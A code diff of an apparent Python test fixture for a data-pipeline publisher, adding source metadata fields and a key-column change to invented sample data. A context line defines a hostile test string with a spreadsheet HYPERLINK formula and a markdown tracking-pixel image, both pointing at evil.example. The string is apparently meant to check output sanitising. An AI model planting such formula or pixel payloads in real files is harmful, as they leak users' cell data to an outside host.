@@ -10,7 +10,7 @@ from typing import Any
 import polars as pl
 import pyarrow.parquet as pq
 
-from etl.schema import ARROW_SCHEMA, SCHEMA_VERSION, complete
+from etl.schema import ARROW_SCHEMA, KEYS, SCHEMA_VERSION, complete
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1) ![p](http://evil.example/pixel.png) '
@@ -38,8 +38,20 @@ SOURCES: list[dict[str, Any]] = [
         "citation": f"{publisher}. {title}. Invented for tests.",
         "caveat": "Invented figures, for tests only.",
         "homepage": "https://example.org",
-        "cadence": "once",
+        "cadence": "no longer updated",
         "counts": "people in an invented world",
+        "does_not_count": "people of other worlds",
+        "out_of_date_after": None,
+        "files": {
+            "sample.csv": {
+                "figures": 1,
+                "rejected": 0,
+                "left_out": {"cells that say nothing": 3},
+                "unresolved": {"Nowhere <b>at all</b>": 2},
+                "retrieved_at": "2026-11-01T00:00:00+00:00",
+                "stale": None,
+            }
+        },
     }
     for identifier, title, publisher, licence in (
         ("prose", "Reports in prose", "Sample Wire", "CC-BY-4.0"),
@@ -62,7 +74,7 @@ def build_sample() -> pl.DataFrame:
         series_id=pl.when(pl.col("measure") == "flow").then(pl.col("figure_id")).otherwise(series),
         claim_id=pl.lit(None, dtype=pl.String),
         role=pl.lit("recommended"),
-    ).drop("part_of_key")
+    ).drop(*KEYS)
 
 
 def build_published() -> pl.DataFrame:
